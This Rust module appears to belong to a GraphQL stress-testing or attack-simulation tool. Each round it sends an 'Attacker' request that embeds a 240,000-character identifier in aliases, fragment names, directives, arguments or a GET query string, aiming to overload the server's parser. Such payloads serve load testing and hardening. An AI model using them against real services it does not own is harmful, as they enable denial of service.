//! Names of a document that answers repeat: for each row, or for each error.

use std::io;

use crate::target::Attacker;
use crate::wire::Request;

/// About as long as a body may be.
const LONG: usize = 240_000;
/// What fits into the head of a GET.
const SHORT: usize = 30_000;

pub(crate) async fn round(attacker: &Attacker, round: usize) -> io::Result<()> {
    let name = "A".repeat(LONG);
    let variants = [
        |name: &str| format!("{{countries{{provinces{{{name}: name}}}}}}"),
        |name: &str| format!("{{__schema{{types{{fields{{{name}: name}}}}}}}}"),
        |name: &str| format!("query {name} {{countries{{provinces{{...on {name} {{name}}}}}}}}"),
        |name: &str| format!("fragment {name} on Province {{name}} {{countries{{provinces{{...{name}}}}}}}"),
        |name: &str| format!("query ($x: Int) {{countries{{provinces{{name @include(if: ${name})}}}}}}"),
        |name: &str| format!("{{countries{{provinces{{name @{name}}}}}}}"),
        |name: &str| format!("{{countries{{code{name}}}}}"),
        |name: &str| format!("{{customer(id: \"{name}\") {{{name}: email}}}}"),
    ];
    let chosen = (attacker.number + round) % (variants.len() + 1);
    let request = match variants.get(chosen) {
        Some(query) => Request::graphql(&query(&name)),
        None => {
            let query = format!("%7Bcountries%7Bprovinces%7B{}:name%7D%7D%7D", &name[..SHORT]);
            let (path, body) = (format!("/api/graphql?query={query}"), String::new());
            Request { method: "GET", path, headers: Vec::new(), body }
        }
    };
    attacker.send(request).await
}
